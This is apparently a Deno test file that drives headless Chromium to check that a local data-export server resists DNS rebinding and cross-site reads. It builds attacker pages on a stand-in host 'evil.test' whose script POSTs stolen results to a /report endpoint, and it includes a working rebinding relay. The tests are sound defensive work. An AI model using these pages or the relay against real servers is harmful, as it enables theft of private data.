/** A real browser, in which pages of other sites try to reach rows. */

import assert from "node:assert/strict";
import { CHROMIUM, readerTest } from "../clients/programs.ts";
import { serve, type TestHttpServer } from "../server/http/serving.ts";
import { inTime, until } from "../waiting.ts";
import { startServer } from "./fixture.ts";

/** The name of the attacker's site, which becomes an address of ours. */
const EVIL = "evil.test";

/** Opens a page; disposing it ends the browser. */
async function openPage(url: string): Promise<AsyncDisposable> {
  const folder = await Deno.makeTempDir({ prefix: "spillway-browser-" });
  const child = new Deno.Command(CHROMIUM, {
    args: [
      ...["--headless", "--no-sandbox", "--disable-gpu", `--user-data-dir=${folder}`],
      ...[`--host-resolver-rules=MAP ${EVIL} 127.0.0.1`, "--remote-debugging-port=0", url],
    ],
    stdin: "null",
    stdout: "null",
    stderr: "null",
    detached: true,
  }).spawn();
  return {
    async [Symbol.asyncDispose]() {
      // It is several processes.
      Deno.kill(-child.pid, "SIGKILL");
      await child.status;
      await until(() => Deno.remove(folder, { recursive: true }).then(() => true, () => false));
    },
  };
}

/** A site of the attacker's: a page, and what its script reports. */
function startSite(page: (port: number) => string, onRequest: (path: string) => void = () => {}) {
  const reported = Promise.withResolvers<Record<string, string>>();
  const server: TestHttpServer = serve(async (request) => {
    const { pathname } = new URL(request.url);
    onRequest(pathname);
    if (pathname === "/report") reported.resolve(JSON.parse(await request.text()));
    const body = pathname === "/" ? page(server.addr.port) : "";
    // The next request is to come over a connection of its own.
    return new Response(body, { headers: { "Content-Type": "text/html", "Connection": "close" } });
  });
  return {
    port: server.addr.port,
    reported: inTime(reported.promise, "the report of the page"),
    [Symbol.asyncDispose]: () => server.close(),
  };
}

/** A port behind which another server is after a while: what a name that is resolved anew leads to. */
function startRebinding(first: number) {
  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  let target = first;
  const relay = async (client: Deno.TcpConn) => {
    // A browser opens connections ahead: where one leads is known once it is used.
    const request = new Uint8Array(64 * 1024);
    const count = await client.read(request);
    if (count === null) throw new Error("It was not used");
    const server = await Deno.connect({ hostname: "127.0.0.1", port: target });
    server.readable.pipeTo(client.writable).catch(() => {});
    const writer = server.writable.getWriter();
    await writer.write(request.subarray(0, count));
    writer.releaseLock();
    await client.readable.pipeTo(server.writable);
  };
  void (async () => {
    for await (const client of listener) {
      relay(client).catch(() => {
        try {
          client.close();
        } catch {
          // Its streams have closed it.
        }
      });
    }
  })().catch(() => {});
  return {
    port: listener.addr.port,
    rebind: (port: number) => void (target = port),
    [Symbol.dispose]: () => listener.close(),
  };
}

/** Tries things, each of which gives a text, and reports what they gave to a port of the attacker's. */
function attempts(port: number, tries: Record<string, string>): string {
  const lines = Object.entries(tries).map(([name, code]) =>
    `try { told[${JSON.stringify(name)}] = String(await (${code})); } catch (error) {
       told[${JSON.stringify(name)}] = "failed";
     }`
  );
  return `<!doctype html><body><script type="module">
    const told = {};
    const load = (tag, url) => new Promise((resolve) => {
      const element = document.createElement(tag);
      element.onload = () => resolve("loaded");
      element.onerror = () => resolve("refused");
      element.src = url;
      document.body.append(element);
    });
    ${lines.join("\n")}
    await fetch("http://${EVIL}:${port}/report", {
      method: "POST", mode: "no-cors", body: JSON.stringify(told)
    });
  </script>`;
}

readerTest("a name that is rebound to this server reaches no row", ["chromium"], async () => {
  await using server = await startServer();
  let rebind = () => {};
  const read = (path: string) =>
    `fetch("${path}").then(async (answer) => answer.status + " " + await answer.text())`;
  await using site = startSite((port) =>
    attempts(port, {
      attacker: `fetch("/rebind").then(({ status }) => status)`,
      rows: read("/exports/table.csv"),
      catalogue: read("/exports"),
      metrics: read("/metrics"),
    }), (path) => path === "/rebind" && rebind());
  using name = startRebinding(site.port);
  rebind = () => name.rebind(server.port);
  await using _page = await openPage(`http://${EVIL}:${name.port}/`);
  const told = await site.reported;
  assert.equal(told.attacker, "200");
  for (const path of ["rows", "catalogue", "metrics"]) {
    // The browser has let the page read the answer: all that protects is what the answer is.
    assert.match(told[path]!, /^421 .*This server is not called/, path);
  }
  assert.deepEqual(server.reports, []);
});

readerTest(
  "a page of another site runs no export, but for a link that is followed",
  ["chromium"],
  async () => {
    await using server = await startServer();
    const file = `${server.origin}/exports/table.csv`;
    await using site = startSite((port) =>
      attempts(port, {
        fetch: `fetch("${file}").then(() => "read")`,
        opaque: `fetch("${file}", { mode: "no-cors" }).then(({ type }) => type)`,
        image: `load("img", "${file}")`,
        script: `load("script", "${file}")`,
        frame: `load("iframe", "${file}")`,
      })
    );
    await using _page = await openPage(`http://${EVIL}:${site.port}/`);
    const told = await site.reported;
    assert.deepEqual({ ...told, frame: "" }, {
      fetch: "failed",
      opaque: "opaque",
      image: "refused",
      script: "refused",
      frame: "",
    });
    assert.deepEqual(server.reports, [], "no query was run for any of them");

    await using other = startSite(() =>
      `<!doctype html><a href="${file}">rows</a><script>document.links[0].click()</script>`
    );
    await using _other = await openPage(`http://${EVIL}:${other.port}/`);
    await until(() => server.reports.length === 1);
  },
);
